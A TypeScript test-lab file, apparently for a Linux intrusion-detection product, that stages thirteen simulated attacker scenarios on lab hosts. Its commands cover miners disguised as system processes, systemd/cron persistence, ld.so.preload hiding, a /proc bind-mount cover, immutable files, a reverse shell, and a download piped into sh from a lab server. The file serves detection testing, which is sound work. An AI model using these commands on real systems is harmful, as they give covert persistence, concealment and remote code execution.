import { labServices } from "../lab/labServices.ts";
import { hiddenWord } from "./ensureSimulators.ts";
import type { HostShape, Scenario } from "./scenario.ts";

const anywhere = (): boolean => true;
const withGlibc = (host: HostShape): boolean => host.suite !== "mini";
const withSystemd = (host: HostShape): boolean => host.init === "systemd";
/** busybox has no `nginx` account, and curl is absent there. */
const downloader = (host: HostShape): string => (host.suite === "mini" ? "wget -qO-" : "curl -fsSL");

const minerInTmp: Scenario = {
  id: "miner-in-tmp",
  title: "A miner under its own name in /tmp, talking stratum",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const path = "/tmp/.ICE-cache/xmrig";
    await stage.drop("burner", path);
    const processes = await stage.run(
      "root",
      `LAB_DUTY=40 LAB_THREADS=2 start miner ${path} -o ${stage.pool} -u 4SIMULATED.rig --donate-level 1 -a rx/0 -k`,
    );
    return { processes, paths: [path] };
  },
};

const kernelThreadMasquerade: Scenario = {
  id: "kernel-thread-masquerade",
  title: "An ordinary user's process that calls itself a kernel worker",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const path = "/dev/shm/.k";
    await stage.drop("burner", path);
    const script = `LAB_DUTY=30 LAB_HIDE=1 LAB_POOL=${stage.pool} LAB_COMM=kworker/1:2 LAB_TITLE='[kworker/1:2-events]' \
      start miner ${path} --------------------`;
    return { processes: await stage.run("ops", script), paths: [path] };
  },
};

const deletedExecutable: Scenario = {
  id: "deleted-executable",
  title: "A running program whose file is gone",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const path = "/var/tmp/dbus-broker";
    await stage.drop("burner", path);
    const script = `LAB_DUTY=30 LAB_POOL=${stage.pool} start miner ${path} --system\nsleep 0.5; rm ${path}`;
    return { processes: await stage.run("root", script), paths: [] };
  },
};

const memoryFile: Scenario = {
  id: "memory-file",
  title: "A program that runs from an anonymous memory file",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    await stage.drop("burner", "/tmp/.payload");
    await stage.drop("memfdRunner", "/tmp/.loader");
    const script = `LAB_DUTY=30 LAB_POOL=${stage.pool} start miner /tmp/.loader /tmp/.payload /usr/sbin/rsyslogd -n`;
    return { processes: await stage.run("root", script), paths: [] };
  },
};

const watchdogPair: Scenario = {
  id: "watchdog-pair",
  title: "Two scripts that start each other and a miner again",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const folder = "/var/tmp/.font-unix";
    for (const name of ["syshealth", ".copy"]) await stage.drop("burner", `${folder}/${name}`);
    await stage.drop("watchdog", `${folder}/sysguard`);
    const script = `
      export LAB_DUTY=30 LAB_POOL=${stage.pool}
      end=$(($(date +%s) + ${stage.seconds}))
      setsid sh ${folder}/sysguard ${folder} a $end </dev/null >/dev/null 2>&1 &
      for try in 1 2 3 4 5 6 7 8 9 10; do
        sleep 0.5
        [ -s ${folder}/.a ] && [ -s ${folder}/.b ] && [ -s ${folder}/.m ] && break
      done
      echo "watchdog $(cat ${folder}/.a)"; echo "watchdog $(cat ${folder}/.b)"; echo "miner $(cat ${folder}/.m)"`;
    const paths = ["syshealth", ".copy", "sysguard"].map((name) => `${folder}/${name}`);
    return { processes: await stage.run("root", script), paths };
  },
};

const persistentUnit: Scenario = {
  id: "persistent-unit",
  title: "A miner that a unit, a timer and a cron line keep alive",
  kind: "evil",
  fits: withSystemd,
  async start(stage) {
    const path = "/usr/local/bin/netstatd";
    const unit = "/etc/systemd/system/netstat-helper.service";
    const timer = "/etc/systemd/system/netstat-helper.timer";
    const cron = "/etc/cron.d/0netstat";
    await stage.drop("burner", path);
    const environment = `LAB_DUTY=25 LAB_SECONDS=${stage.seconds}`;
    await stage.host.writeFile(
      unit,
      `[Unit]\nDescription=Network statistics\n[Service]\nEnvironment=${environment}\nExecStart=${path} -o ${stage.pool}\n` +
        "Restart=always\nRestartSec=2\n[Install]\nWantedBy=multi-user.target\n",
    );
    await stage.host.writeFile(timer, "[Timer]\nOnBootSec=5\nOnUnitActiveSec=30\n[Install]\nWantedBy=timers.target\n");
    await stage.host.writeFile(cron, `* * * * * root pgrep -x netstatd >/dev/null || ${path} -o ${stage.pool} &\n`);
    const processes = await stage.run(
      "root",
      `systemctl daemon-reload && systemctl enable -q --now netstat-helper.service netstat-helper.timer
      echo "miner $(systemctl show -p MainPID --value netstat-helper.service)"`,
    );
    return { processes, paths: [path, unit, timer, cron] };
  },
};

const preloadHider: Scenario = {
  id: "preload-hider",
  title: "A library in ld.so.preload that hides a miner from ps",
  kind: "evil",
  fits: withGlibc,
  async start(stage) {
    const path = `/usr/sbin/${hiddenWord}`;
    const library = "/usr/local/lib/libsystem-cache.so.1";
    await stage.drop("burner", path);
    await stage.drop("preloadHider", library);
    const processes = await stage.run("root", `LAB_DUTY=30 start miner ${path} -o ${stage.pool}`);
    await stage.host.writeFile("/etc/ld.so.preload", `${library}\n`);
    return { processes, paths: [path, library, "/etc/ld.so.preload"] };
  },
};

const preloadEnvironment: Scenario = {
  id: "preload-environment",
  title: "A process that was started with a library from /dev/shm in LD_PRELOAD",
  kind: "evil",
  fits: withGlibc,
  async start(stage) {
    const library = "/dev/shm/.x11.so";
    await stage.drop("preloadHider", library);
    const script = `LD_PRELOAD=${library} start carrier sleep ${stage.seconds}`;
    return { processes: await stage.run("ops", script), paths: [library] };
  },
};

const mountedOver: Scenario = {
  id: "mounted-over",
  title: "A process whose /proc folder is covered by a mount",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const path = "/usr/local/sbin/irqbalanced";
    await stage.drop("burner", path);
    const processes = await stage.run("root", `LAB_DUTY=30 start miner ${path} -o ${stage.pool}\nsleep 0.3`);
    // A mount from an SSH session is seen by all: sessions share the host's mount namespace.
    const pid = processes[0]?.pid ?? 0;
    await stage.run("root", `mkdir -p /var/tmp/.empty && mount --bind /var/tmp/.empty /proc/${pid}`);
    return { processes, paths: [path] };
  },
};

const immutableFiles: Scenario = {
  id: "immutable-files",
  title: "A miner and its cron line that even root cannot remove at first",
  kind: "evil",
  fits: withGlibc,
  async start(stage) {
    const path = "/opt/.sysd/kthrotlds";
    const cron = "/etc/cron.d/sysd";
    await stage.drop("burner", path);
    await stage.host.writeFile(cron, `@reboot root ${path} -o ${stage.pool}\n`);
    const script = `chattr +i ${path} ${cron} && LAB_DUTY=30 start miner ${path} -o ${stage.pool}`;
    return { processes: await stage.run("root", script), paths: [path, cron] };
  },
};

const reverseShell: Scenario = {
  id: "reverse-shell",
  title: "A shell whose input and output are a network connection",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const path = "/tmp/.s";
    await stage.drop("reverseShell", path);
    const processes = await stage.run("root", `${path} 4444 ${stage.seconds}\nsleep 0.2; rm ${path}`);
    return { processes, paths: [] };
  },
};

const downloadAndRun: Scenario = {
  id: "download-and-run",
  title: "A one-liner that pipes a download into a shell",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    const url = `http://${labServices.address}:${labServices.downloadPort}/init.sh`;
    const script = `start shell sh -c '${downloader(stage.host)} ${url} | sh; true'`;
    return { processes: await stage.run("ops", script), paths: [] };
  },
};

const webShell: Scenario = {
  id: "web-shell",
  title: "A web server's worker that has started a shell, and the shell a miner",
  kind: "evil",
  fits: anywhere,
  async start(stage) {
    await stage.drop("webWorker", "/usr/local/nginx/sbin/nginx");
    await stage.drop("burner", "/var/tmp/.w/php-update");
    const command = `LAB_DUTY=30 /var/tmp/.w/php-update -o ${stage.pool}; true`;
    const script = `/usr/local/nginx/sbin/nginx '${command}'`;
    return { processes: await stage.run("root", script), paths: ["/var/tmp/.w/php-update"] };
  },
};

/** The stories that a correct product finds. */
export const evilScenarios = [
  minerInTmp,
  kernelThreadMasquerade,
  deletedExecutable,
  memoryFile,
  watchdogPair,
  persistentUnit,
  preloadHider,
  preloadEnvironment,
  mountedOver,
  immutableFiles,
  reverseShell,
  downloadAndRun,
  webShell,
] as const satisfies readonly Scenario[];
